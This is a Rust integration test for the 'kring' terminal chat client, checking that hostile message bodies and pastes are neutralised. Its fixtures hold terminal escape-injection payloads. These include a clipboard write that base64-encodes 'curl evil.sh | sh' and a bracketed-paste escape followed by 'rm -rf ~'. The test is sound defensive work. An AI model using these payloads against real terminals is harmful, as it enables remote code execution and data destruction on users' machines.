//! A hostile feed end to end: a `kring serve` child holds
//! messages that try to switch terminal modes, leave the alternate screen, set the title, write
//! the clipboard and reorder text; the real binary in a pty reads them, opens their threads and
//! quits. Every byte it wrote must pass the output firewall, and the terminal must end with no
//! mode left on. Then a bracketed paste full of escapes and bidi controls is posted from the
//! compose box, and the server must receive it without them.

use crate::harness::pty::PtySession;
use crate::harness::terminal;

use std::time::Duration;

use crate::harness::probe::Probe;
use crate::harness::serve::{self, ServeProcess};
use kring::text::firewall::check_terminal_bytes;
use reqwest::Method;
use serde_json::Value;
use terminal::*;

/// Message bodies a careless server passes through untouched.
const HOSTILE: &[&str] = &[
    "mouse on \x1b[?1000h\x1b[?1006h now click",
    "leave the screen \x1b[?1049l and clear \x1b[2J\x1b[H",
    "title \x1b]2;pwned by a message\x07 set",
    "clipboard \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07 written",
    "link \x1b]8;;https://evil.example\x1b\\bank.example\x1b]8;;\x1b\\ lies",
    "8-bit \u{9b}2J \u{9d}0;t\u{9c} controls",
    "query \x1b[6n \x1b[c \x1bP$qm\x1b\\ answers",
    "invoice_\u{202e}fdp.exe and pay\u{200b}pal",
    "bell\x07 backspace\x08\x08 carriage\rreturn",
    "end of paste \x1b[201~ rm -rf ~",
];

fn post(probe: &Probe, body: &str, replied_to: Option<u64>) -> u64 {
    let mut params = vec![("body", body.to_owned())];
    if let Some(id) = replied_to {
        params.push(("replied_to_id", id.to_string()));
    }
    let url = reqwest::Url::parse_with_params("http://x/messages.json", &params)
        .expect("a URL with the message as its query");
    let answer = probe.call(
        Method::POST,
        &format!("messages.json?{}", url.query().unwrap_or_default()),
    );
    answer["messages"][0]["id"]
        .as_u64()
        .expect("the new message's id")
}

struct HostileNetwork {
    server: ServeProcess,
    probe: Probe,
    dirs: KringDirs,
}

impl HostileNetwork {
    fn start() -> Self {
        let dirs = KringDirs::new();
        let db = dirs.path().join("serve.sqlite");
        let server = ServeProcess::start(
            crate::harness::kring_bin(),
            &db,
            serve::REQUEST_LOG,
            START_TIMEOUT,
        );
        let probe = Probe::new(&server.base_url, &server.token);
        for body in HOSTILE {
            let starter = post(&probe, body, None);
            post(&probe, HOSTILE[HOSTILE.len() - 1], Some(starter));
        }
        Self {
            server,
            probe,
            dirs,
        }
    }

    fn client(&self) -> PtySession {
        let env = self.dirs.env_with(&[
            ("KRING_SERVER", &self.server.base_url),
            ("KRING_TOKEN", &self.server.token),
        ]);
        let run = PtySession::kring(&[], &borrowed(&env), 120, 40);
        run.wait_for("Timeline", START_TIMEOUT);
        run.wait_for("end of paste", START_TIMEOUT);
        run
    }
}

#[test]
fn a_hostile_feed_changes_nothing_in_the_terminal() {
    let network = HostileNetwork::start();
    let mut run = network.client();
    for _ in 0..HOSTILE.len() {
        run.send(b"\r");
        run.wait_quiet(Duration::from_millis(150), ACT_TIMEOUT);
        run.send(b"jj");
        run.send(b"2j");
        run.wait_quiet(Duration::from_millis(150), ACT_TIMEOUT);
    }
    run.send(b"\x03");
    assert!(run.wait_exit(ACT_TIMEOUT).is_some(), "ctrl-c quits");
    run.wait_quiet(Duration::from_millis(200), ACT_TIMEOUT);

    let bytes = run.bytes();
    if let Err(violation) = check_terminal_bytes(&bytes) {
        panic!(
            "{violation}\n{}",
            String::from_utf8_lossy(&bytes).escape_debug()
        );
    }
    let text = String::from_utf8_lossy(&bytes);
    assert!(
        text.contains("mouse on") && text.contains("invoice_"),
        "the hostile messages were drawn"
    );
    run.with_screen(|screen| {
        assert!(!screen.alternate_screen(), "alternate screen left");
        assert!(!screen.hide_cursor(), "cursor shown");
        assert!(!screen.bracketed_paste(), "bracketed paste off");
        assert_eq!(
            screen.mouse_protocol_mode(),
            vt100::MouseProtocolMode::None,
            "no mouse reporting"
        );
    });
}

#[test]
fn a_hostile_paste_reaches_the_server_without_controls() {
    let network = HostileNetwork::start();
    let mut run = network.client();
    run.send(b"c");
    run.wait_quiet(Duration::from_millis(300), ACT_TIMEOUT);
    let pasted = "before \x1b]52;c;cHdu\x07 mid \x1b[31mred \u{9b}2J \u{202e}gnp.exe \
                  pay\u{200b}pal \u{85}after";
    run.send(format!("\x1b[200~{pasted}\x1b[201~").as_bytes());
    run.wait_quiet(Duration::from_millis(300), ACT_TIMEOUT);
    // All Company asks first; the second send posts.
    run.send(b"\x13");
    run.wait_for("Send again to post", ACT_TIMEOUT);
    run.send(b"\x13");
    let deadline = std::time::Instant::now() + ACT_TIMEOUT;
    let body = loop {
        let feed = network.probe.get("messages.json");
        let sent = feed["messages"]
            .as_array()
            .into_iter()
            .flatten()
            .find_map(|m: &Value| m["body"]["plain"].as_str().filter(|b| b.contains("before")));
        if let Some(body) = sent {
            break body.to_owned();
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the paste was never posted"
        );
        std::thread::sleep(Duration::from_millis(100));
    };
    assert!(body.contains("after"), "the whole paste arrived: {body:?}");
    let controls: Vec<char> = body
        .chars()
        .filter(|c| {
            (c.is_control() && *c != '\n')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}')
        })
        .collect();
    assert!(controls.is_empty(), "{controls:?} in {body:?}");
}
